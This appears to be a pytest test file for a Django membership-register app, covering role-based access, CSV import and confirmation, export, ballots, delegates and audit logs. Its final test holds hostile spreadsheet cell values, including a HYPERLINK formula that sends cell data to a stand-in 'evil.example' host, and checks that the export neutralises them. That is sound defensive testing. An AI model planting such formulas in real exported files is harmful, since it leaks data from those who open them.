"""Pages: standing with reasons, the import report, export, electorate and delegate pages."""

from __future__ import annotations

import datetime as dt
import re

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from grassroots import dates
from grassroots.audit.models import AuditEntry
from grassroots.members import actions
from grassroots.members.eligibility import RuleSet
from grassroots.members.models import Member
from tests.web.conftest import PASSWORD, TODAY, Org

pytestmark = pytest.mark.django_db

GOOD = "number,name,branch,join_date,status\nI1,Ivy,hillford,2020-01-01,full\n"
BAD = GOOD + "I2,Ian,moorside,2020-01-01,full\nI3,Ida,hillford,2020-02-30,full\n"


def login(org: Org, who: str) -> Client:
    c = Client()
    assert c.login(username=org.users[who].username, password=PASSWORD)
    return c


def agm(org: Org) -> None:
    day = TODAY + dt.timedelta(days=10)
    actions.create_occasion(
        by=None,
        title="Hillford AGM",
        kind="meeting",
        unit=org.hillford,
        date=day,
        rules=RuleSet(
            on=day,
            paid_up_to=day,
            may_pay_on_day=True,
            branch_id=org.hillford.pk,
            branch_name="Hillford",
        ),
    )


def test_the_home_and_login_pages_render_for_anyone() -> None:
    home = Client().get("/")
    assert home.status_code == 200
    # Published counts are public: a visitor who is not logged in can reach them from home.
    assert f'href="{reverse("elections:list")}"' in home.content.decode()
    r = Client().get(reverse("login"))
    assert r.status_code == 200 and b'<label for="id_login">' in r.content
    # no password needed: a sign-in link or a one-time code by e-mail
    assert b"E-mail me a sign-in link" in r.content and b"E-mail me a one-time code" in r.content


def test_the_registers_page_links_only_to_pages_the_role_may_open(org: Org) -> None:
    page = login(org, "returning").get("/units/").content.decode()
    # a returning officer sees delegates and electorates, not registers
    assert 'href="/units/hillford/delegates/"' in page
    assert 'href="/units/hillford/"' not in page
    assert "Hillford East" not in page  # a ward has no delegates page
    page = login(org, "secretary").get("/units/").content.decode()
    assert 'href="/units/hillford/"' in page and 'href="/units/hillford/delegates/"' in page
    assert 'href="/units/hillford-east/"' in page
    assert 'href="/units/hillford-east/delegates/"' not in page


def test_a_member_sees_why_they_may_not_take_part_and_how_to_fix_it(org: Org) -> None:
    agm(org)
    html = login(org, "member").get(reverse("members:standing")).content.decode()
    assert "Hillford AGM" in html
    assert "You may take part if you pay on the day." in html
    assert f"must be paid up to {dates.day(TODAY + dt.timedelta(days=10))}" in html
    assert "Pay your arrears up to" in html


def test_a_member_without_a_linked_record_is_told_so(org: Org) -> None:
    html = login(org, "officer").get(reverse("members:standing")).content.decode()
    assert "not linked to a membership record" in html


def test_an_upload_with_errors_shows_the_report_and_imports_nothing(org: Org) -> None:
    c = login(org, "secretary")
    before = Member.objects.count()
    r = c.post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", BAD.encode())},
    )
    html = r.content.decode()
    assert r.status_code == 200 and "Nothing has been imported." in html
    assert re.search(
        r"<td[^>]*>3</td><td[^>]*>branch</td>"
        r"<td[^>]*>you may not add members to &#x27;moorside&#x27;",
        html,
    )
    assert "found &#x27;2020-02-30&#x27;" in html
    assert Member.objects.count() == before
    token = re.search(r'name="token" value="([0-9a-f]+)"', html).group(1)  # type: ignore[union-attr]
    r = c.post(reverse("members:import_confirm", kwargs={"code": "hillford"}), {"token": token})
    assert r.status_code == 302
    assert list(Member.objects.filter(number__startswith="I").values_list("number", flat=True)) == [
        "I1"
    ]
    # the staged file is used once
    r = c.post(
        reverse("members:import_confirm", kwargs={"code": "hillford"}),
        {"token": token},
        follow=True,
    )
    assert "That upload has expired" in r.content.decode()


def test_choosing_import_valid_rows_up_front_imports_them_at_once(org: Org) -> None:
    c = login(org, "secretary")
    r = c.post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", BAD.encode()), "import_valid": "on"},
        follow=True,
    )
    assert "Imported 1 member(s); skipped 2 row(s) with errors." in r.content.decode()


def test_a_clean_upload_imports_and_audits(org: Org) -> None:
    r = login(org, "secretary").post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", GOOD.encode())},
    )
    assert r.status_code == 302
    e = AuditEntry.objects.order_by("-id").first()
    assert e is not None and e.actor_name == "secretary" and e.action == "import_members"


def test_a_file_that_is_not_utf8_is_refused_with_advice(org: Org) -> None:
    r = login(org, "secretary").post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", "name\nJosé\n".encode("latin-1"))},
    )
    assert "CSV UTF-8" in r.content.decode()


def test_the_export_reads_back_through_the_import_checker(org: Org) -> None:
    from grassroots.members import csvio
    from grassroots.members.models import Unit

    r = login(org, "admin").get(reverse("members:export", kwargs={"code": "national"}))
    text = b"".join(r.streaming_content).decode()  # type: ignore[attr-defined]
    refs = {u.code: csvio.UnitRef(u.pk, u.kind, u.parent_id) for u in Unit.objects.all()}
    parsed = csvio.parse(text, refs)
    assert parsed.errors == []
    assert sorted(m.number for m in parsed.rows) == ["M1", "M2"]
    assert parsed.rows[0].ward_id == org.hillford_east.pk


def test_a_secretary_changes_a_status_with_a_reason_and_it_shows_in_the_history(org: Org) -> None:
    c = login(org, "secretary")
    c.post(
        reverse("members:member_status", kwargs={"number": "M1"}),
        {"transition": "suspend", "reason": "complaint 7"},
    )
    assert Member.objects.get(number="M1").status == "suspended"
    html = c.get(reverse("members:member", kwargs={"number": "M1"})).content.decode()
    assert "complaint 7" in html and "suspend: Ann Arrears (M1) full → suspended" in html


def test_a_refused_status_change_is_explained(org: Org) -> None:
    r = login(org, "secretary").post(
        reverse("members:member_status", kwargs={"number": "M1"}),
        {"transition": "confirm"},
        follow=True,
    )
    assert "cannot confirm Ann Arrears: status is full, must be provisional" in r.content.decode()


def test_the_add_member_form_creates_a_provisional_member(org: Org) -> None:
    c = login(org, "secretary")
    r = c.post(
        reverse("members:member_new", kwargs={"code": "hillford"}),
        {
            "number": "N9",
            "name": "Nadia",
            "branch": org.hillford.pk,
            "join_date": str(TODAY),
            "status": "provisional",
            "rate_band": "standard",
        },
    )
    assert r.status_code == 302
    assert Member.objects.get(number="N9").branch == org.hillford


def test_the_register_search_finds_by_name(org: Org) -> None:
    html = (
        login(org, "admin")
        .get(reverse("members:register", kwargs={"code": "national"}), {"q": "bob"})
        .content.decode()
    )
    assert "Bob Moor" in html and "Ann Arrears" not in html


def test_the_electorate_page_counts_each_reason(org: Org) -> None:
    agm(org)
    from grassroots.members.models import Occasion

    o = Occasion.objects.get()
    html = (
        login(org, "returning")
        .get(reverse("members:occasion", kwargs={"pk": o.pk}))
        .content.decode()
    )
    # Hillford has one member, Ann, in arrears but able to pay on the day
    assert re.search(r"Members considered</th><td class=\"num\">1<", html)
    assert re.search(r"In arrears</td><td class=\"num\">1<", html)
    assert re.search(r"Eligible if they pay on the day</th><td class=\"num\">1<", html)


def test_the_delegate_page_shows_figures_and_working(org: Org) -> None:
    html = (
        login(org, "admin")
        .get(
            reverse("members:delegates", kwargs={"code": "national"}),
            {"snapshot": str(TODAY), "formula": "gc", "per": "25"},
        )
        .content.decode()
    )
    # at the snapshot only Bob is paid up; Ann is in arrears
    assert "1 for 1 members (1 per 25 or part thereof)" in html
    assert "no members counted: no delegates" in html


def test_password_reset_sends_a_link_by_the_console_backend(org: Org) -> None:
    org.users["secretary"].email = "sec@example.org"
    org.users["secretary"].save()
    r = Client().post(reverse("password_reset"), {"email": "sec@example.org"})
    assert r.status_code == 302
    assert len(mail.outbox) == 1 and "/accounts/reset/" in mail.outbox[0].body


def test_logging_out_is_a_post_and_returns_home(org: Org) -> None:
    c = login(org, "member")
    r = c.post(reverse("logout"))
    assert r.status_code == 302 and r["Location"] == "/"


def test_the_audit_log_page_is_for_executives_and_administrators_and_verifies_the_chain(
    org: Org,
) -> None:
    html = login(org, "admin").get(reverse("audit:log"), {"verify": "1"}).content.decode()
    assert "The chain is intact" in html and "made secretary branch secretary of Hillford" in html
    assert login(org, "executive").get(reverse("audit:log")).status_code == 200
    for who in ("secretary", "officer", "returning", "member"):
        assert login(org, who).get(reverse("audit:log")).status_code == 403


def test_date_fields_show_their_value_in_the_apps_own_day_month_year_format(org: Org) -> None:
    html = (
        login(org, "admin")
        .get(reverse("members:delegates", kwargs={"code": "national"}))
        .content.decode()
    )
    year = TODAY.year - 1
    assert f'name="snapshot" value="31/12/{year}"' in html
    assert 'type="date"' not in html


def test_a_returning_officer_opens_a_ballot_with_rules_and_sees_its_electorate(org: Org) -> None:
    c = login(org, "returning")
    day = TODAY + dt.timedelta(days=20)
    r = c.post(
        reverse("members:occasion_new", kwargs={"code": "hillford"}),
        {
            "title": "Hillford selection",
            "kind": "ballot",
            "date": str(day),
            "paid_up_to": str(TODAY),
            "exclude_suspended": "on",
            "branch_only": "on",
            "min_membership_days": "183",
        },
    )
    from grassroots.members.models import Occasion

    o = Occasion.objects.get(title="Hillford selection")
    assert r.status_code == 302 and r["Location"] == reverse(
        "members:occasion", kwargs={"pk": o.pk}
    )
    rules = o.rule_set()
    assert (rules.on, rules.branch_id, rules.min_membership_days, rules.freeze_date) == (
        day,
        org.hillford.pk,
        183,
        None,
    )
    # Ann (Hillford) is in arrears at TODAY
    html = login(org, "member").get(reverse("members:standing")).content.decode()
    assert "Hillford selection" in html and "You may not take part." in html
    c.post(reverse("members:occasion_close", kwargs={"pk": o.pk}))
    assert not Occasion.objects.get(pk=o.pk).is_open
    assert (
        "Hillford selection"
        not in login(org, "member").get(reverse("members:standing")).content.decode()
    )


def test_a_secretary_may_not_open_a_ballot_or_manage_roles(org: Org) -> None:
    c = login(org, "secretary")
    assert c.get(reverse("members:occasion_new", kwargs={"code": "hillford"})).status_code == 403
    assert c.get(reverse("members:roles", kwargs={"code": "hillford"})).status_code == 403


def test_an_administrator_gives_and_removes_a_role(org: Org) -> None:
    from grassroots.members.models import Role

    c = login(org, "admin")
    c.post(
        reverse("members:roles", kwargs={"code": "moorside"}),
        {"username": "ann", "kind": "branch_officer"},
    )
    role = Role.objects.get(user__username="ann", kind="branch_officer", unit=org.moorside)
    assert (
        login(org, "member")
        .get(reverse("members:register", kwargs={"code": "moorside"}))
        .status_code
        == 200
    )
    c.post(reverse("members:roles", kwargs={"code": "moorside"}), {"revoke": role.pk})
    assert not Role.objects.filter(pk=role.pk).exists()
    assert (
        login(org, "member")
        .get(reverse("members:register", kwargs={"code": "moorside"}))
        .status_code
        == 403
    )
    summaries = list(AuditEntry.objects.order_by("-id").values_list("summary", flat=True)[:2])
    assert summaries == [
        "removed ann as branch officer of Moorside",
        "made ann branch officer of Moorside",
    ]


def test_a_ward_meeting_shows_to_the_wards_members_and_counts_only_them(org: Org) -> None:
    day = TODAY + dt.timedelta(days=5)
    o = actions.create_occasion(
        by=None, title="East ward meeting", kind="meeting", unit=org.hillford_east, date=day,
        rules=RuleSet(on=day),
    )  # fmt: skip
    assert (
        "East ward meeting"
        in login(org, "member").get(reverse("members:standing")).content.decode()
    )
    html = (
        login(org, "admin").get(reverse("members:occasion", kwargs={"pk": o.pk})).content.decode()
    )
    assert re.search(r"Members considered</th><td class=\"num\">1<", html)


def test_an_upload_that_updates_members_shows_the_changes_and_waits_for_confirmation(
    org: Org,
) -> None:
    c = login(org, "secretary")
    text = (
        "number,name,email,branch,ward,join_date,status\n"
        "M1,Ann Arrears,ann@new.example,hillford,,2019-01-01,full\n"  # email set, ward cleared
        "I1,Ivy,,hillford,,2020-01-01,full\n"
    )
    r = c.post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", text.encode())},
    )
    html = r.content.decode()
    assert r.status_code == 200 and "Nothing has been imported." in html
    assert "2 rows checked: 1 new member, 1 update to members already in the register" in html
    updates = html[html.index('id="import-updates"') : html.index('id="import-new"')]
    assert re.search(r"<td[^>]*>2</td><td[^>]*>M1</td>", updates)
    assert "<li>email: (blank) → ann@new.example</li>" in updates
    assert "<li>ward: hillford-east → (blank)</li>" in updates
    assert "I1" not in updates and re.search(r"<td[^>]*>I1</td>", html)
    assert Member.objects.get(number="M1").email == "" and not Member.objects.filter(number="I1")
    assert "Import: add 1 new member and update 1 member</button>" in html
    token = re.search(r'name="token" value="([0-9a-f]+)"', html).group(1)  # type: ignore[union-attr]
    r = c.post(
        reverse("members:import_confirm", kwargs={"code": "hillford"}),
        {"token": token},
        follow=True,
    )
    assert "Imported 1 member(s), updated 1." in r.content.decode()
    ann = Member.objects.get(number="M1")
    assert (ann.email, ann.ward_id) == ("ann@new.example", None)
    page = c.get(reverse("members:member", kwargs={"number": "M1"})).content.decode()
    assert "changed email, ward of Ann Arrears (M1) by import from reg.csv" in page


def test_a_secretarys_upload_cannot_update_a_member_of_another_branch(org: Org) -> None:
    text = "number,name,branch,join_date,status\nM2,Bob Hillford,hillford,2019-01-01,full\n"
    r = login(org, "secretary").post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", text.encode()), "import_valid": "on"},
    )
    html = r.content.decode()
    assert re.search(
        r"<td[^>]*>2</td><td[^>]*>number</td>"
        r"<td[^>]*>M2 is a member of &#x27;moorside&#x27;, whose register you may not edit",
        html,
    )
    assert "import-updates" not in html and '<button type="submit">Import' not in html
    assert Member.objects.get(number="M2").name == "Bob Moor"


def test_a_file_that_matches_the_register_imports_nothing_and_says_so(org: Org) -> None:
    text = "number,name,branch,join_date,status\nM1,Ann Arrears,hillford,2019-01-01,full\n"
    before = AuditEntry.objects.count()
    r = login(org, "secretary").post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", text.encode())},
        follow=True,
    )
    assert "Imported 0 member(s); 1 row(s) already matched the register." in r.content.decode()
    # the import itself (no member changed), and the start of the job that ran it
    assert AuditEntry.objects.count() == before + 2
    assert AuditEntry.objects.filter(action="jobs.start").count() == 1


def test_a_confirmation_after_the_register_changed_shows_the_new_plan_and_imports_nothing(
    org: Org,
) -> None:
    c = login(org, "secretary")
    text = (
        "number,name,email,branch,join_date,status\n"
        "M1,Ann Arrears,a@new.example,hillford,2019-01-01,full\n"
    )
    r = c.post(
        reverse("members:import", kwargs={"code": "hillford"}),
        {"file": SimpleUploadedFile("reg.csv", text.encode())},
    )
    assert "<li>email: (blank) → a@new.example</li>" in r.content.decode()
    token = re.search(r'name="token" value="([0-9a-f]+)"', r.content.decode()).group(1)  # type: ignore[union-attr]
    # meanwhile someone else changes Ann's email on her page
    actions.update_member(org.ann, by=org.users["admin"], changes={"email": "b@other.example"})
    confirm = reverse("members:import_confirm", kwargs={"code": "hillford"})
    r = c.post(confirm, {"token": token})
    html = r.content.decode()
    assert r.status_code == 200
    assert "The register changed since you checked this file" in html
    assert "<li>email: b@other.example → a@new.example</li>" in html  # the plan as it is now
    assert Member.objects.get(number="M1").email == "b@other.example"  # nothing imported
    # confirming the plan now shown imports it
    r = c.post(confirm, {"token": token}, follow=True)
    assert "Imported 0 member(s), updated 1." in r.content.decode()
    assert Member.objects.get(number="M1").email == "a@new.example"


def test_the_register_export_neutralises_spreadsheet_formulas_in_every_cell(org: Org) -> None:
    import csv
    import io

    from grassroots.members import csvio

    hostile = ['=HYPERLINK("https://evil.example/?"&B2)', "+1", "-2", "@SUM(A1)", "\tx", "\r=1"]
    for i, value in enumerate(hostile):
        Member.objects.create(
            number=f"F{i}",
            name=value,
            email="",
            branch=org.hillford,
            join_date=dt.date(2020, 1, 1),
            status="full",
            gender=value,
            rate_band="standard",
        )
    r = login(org, "admin").get(reverse("members:export", kwargs={"code": "national"}))
    text = b"".join(r.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 2 + len(hostile)
    for row in rows:
        assert not any(c.startswith(csvio.FORMULA_STARTS) for c in row), row
    names = {row[0]: row[1] for row in rows[1:]}
    assert [names[f"F{i}"] for i in range(len(hostile))] == ["'" + v for v in hostile]
